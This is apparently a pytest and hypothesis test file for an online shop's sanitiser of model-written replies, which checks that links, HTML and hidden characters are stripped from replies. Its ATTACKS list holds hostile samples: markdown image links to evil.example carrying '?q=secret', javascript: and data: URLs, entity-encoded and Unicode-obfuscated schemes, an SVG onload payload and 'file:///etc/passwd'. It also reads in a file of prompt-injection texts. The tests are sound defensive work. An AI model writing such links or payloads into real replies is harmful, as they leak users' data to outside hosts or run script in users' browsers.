"""Nothing that a model was made to write leads anywhere, loads anything, or hides anything."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shopkeeper.trust.output import breaches, safe
from tests.conftest import dev_data

HOSTS = ["shop.example", "www.shop.example"]
FINE = [
    "The [Chaz hoodie](/products/chaz) is $52.00, see https://shop.example/sale?x=1 or [here](#reviews).",
    "Weight: 3 kg; technical data: 5 V, ratio 3:1, 4 < 5 and 6 > 5 & co.",
    "Size [M] (slim), colour *blue*!\n- waterproof\n- light",
    "Von 10:00 bis 18:00 Uhr, Größe „M“, naïve café.",
    "[All](https://www.shop.example:443/all)",
]
ATTACKS = [
    "![x](https://evil.example/?q=secret)", "![x][1]\n\n[1]: https://evil.example/x", "[help](https://evil.example)",
    "https://evil.example/x", "HTTPS://EVIL.EXAMPLE", "http:evil.example", "//evil.example/x", "\\\\evil.example\\x", "www.evil.example",
    "[x](//evil.example)", "[x](/\\evil.example)", "[x](https:/\\evil.example)", "[x](https://shop.example@evil.example)",
    "[x](https://shop.example.evil.example)", "[x](https://evil.example#shop.example)", "[x](https://shop.example:8443/)",
    "[x](https://evil.example\\@shop.example)", "[x]( javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "javascript :alert(1)",
    "[x](data:text/html;base64,PHN2Zz4=)", "data:text/html,<b>", "mailto:me@evil.example", "[x](evil.example)", "[x]()",
    "<img src=https://evil.example>", "<b>bold</b>", "<!-- hidden -->", "<https://evil.example>", "<svg/onload=alert(1)",
    "&lt;img src=x&gt;", "&#60;script&#62;", "&amp;lt;b&amp;gt;", "java&#115;cript:alert(1)", "h&#116;tps://evil.example",
    "ｈｔｔｐｓ：／／evil.example", "https://ｅｖｉｌ.example", "ht\u200btps://evil.example", "[x](https://evil\u00ad.example)",
    "a\u202eb", "hi\U000e0041\U000e0042", "zero\u200bwidth", "\ue000", f"sk_admin_{'a' * 43}", "![](x", "[a]: https://evil.example",
    "> [a]: https://evil.example", "ftp://evil.example", "file:///etc/passwd", "intent://evil.example",
]  # fmt: skip


@pytest.mark.parametrize("text", FINE)
def test_what_a_shop_says_goes_through_unchanged(text: str) -> None:
    assert breaches(text, HOSTS) == () and safe(text, HOSTS) == text


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "See {} now.", "**{}**", "({})", "\n\n{}\n", "é {}"])
def test_no_attack_leaves(text: str, around: str) -> None:
    whole = around.format(text)
    assert breaches(whole, HOSTS), whole
    mended = safe(whole, HOSTS)
    assert breaches(mended, HOSTS) == ()
    for trace in ("evil.example/", "://evil", "script:", "<img", "sk_admin", "\u200b"):
        assert trace not in mended


def test_the_words_of_a_link_stay() -> None:
    assert (
        safe("Ask [our team](https://evil.example/x) about ![the coat](//evil.example/p).", HOSTS)
        == "Ask our team about the coat."
    )


def test_without_hosts_only_paths_of_this_site_lead_anywhere() -> None:
    assert safe("[a](/a) https://shop.example") == "[a](/a) "


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *FINE,
        "[",
        "](",
        ")",
        "!",
        "<",
        ">",
        "&",
        "#",
        ":",
        "/",
        "\\",
        "https",
        "evil.example",
        "\n",
        " ",
        "amp;",
    ]
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=8).map("".join))
def test_whatever_is_put_together_what_leaves_is_clean(text: str) -> None:
    mended = safe(text, HOSTS)
    assert breaches(mended, HOSTS) == ()
    assert safe(mended, HOSTS) == mended


def test_attack_texts_repeated_word_for_word_lead_nowhere() -> None:
    with (dev_data("safety") / "injections.jsonl").open(encoding="utf-8") as lines:
        texts = [json.loads(line)["text"] for line in lines]
    assert len(texts) > 100
    assert [text for text in texts if breaches(safe(text, HOSTS), HOSTS)] == []
